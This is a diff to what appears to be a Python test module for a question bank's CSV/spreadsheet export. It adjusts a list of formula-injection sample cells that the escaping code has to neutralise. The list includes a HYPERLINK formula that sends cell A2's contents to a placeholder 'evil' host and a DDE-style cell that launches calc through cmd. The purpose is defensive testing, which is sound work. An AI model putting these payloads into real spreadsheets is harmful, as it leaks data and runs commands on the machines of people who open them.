@@ -18,8 +18,10 @@ from question_bank.services import attempts
 
 #: Text a spreadsheet would run, each starting with a trigger SEC-I2 names, plus commas, quotes and
 #: line breaks that a CSV must quote (RFC 4180).
+#: NUL is not among them: PostgreSQL stores no NUL in text, so no stored name can start with one (the CSV and
+#: xlsx writers' handling of NUL is tried in tests/question_bank/test_tabular.py).
 TRIGGERS = ['=HYPERLINK("http://evil/?d="&A2,"详情")', "@SUM(A1:A9)", "-1+1|' /C calc'!A0", "\t=1+1", "+86 138 0000",
-            "\r=1+1", "\0=1+1"]
+            "\r=1+1", "-@cmd"]
 AWKWARD = '张三, "老张"\n第二行'
 
 
